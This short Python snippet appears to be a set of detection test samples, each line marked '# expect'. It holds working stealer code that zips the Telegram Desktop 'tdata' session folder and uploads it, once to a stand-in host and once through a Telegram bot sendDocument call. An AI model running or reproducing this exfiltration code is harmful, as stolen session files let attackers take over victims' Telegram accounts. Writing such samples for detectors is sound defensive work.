import os
import shutil
import zipfile
import requests

TDATA = os.path.join(os.getenv("APPDATA"), "Telegram Desktop", "tdata")
shutil.make_archive(os.path.join(os.getenv("TEMP"), "td"), "zip", TDATA)
with open(os.path.join(os.getenv("TEMP"), "td.zip"), "rb") as f:
    requests.post("https://collect.invalid/t", files={"document": f})  # expect

with zipfile.ZipFile("/tmp/s.zip", "w") as archive:
    for name in os.listdir(TDATA):
        archive.write(os.path.join(TDATA, name))
requests.post("https://api.telegram.org/bot0:x/sendDocument", files={"document": open("/tmp/s.zip", "rb")})  # expect
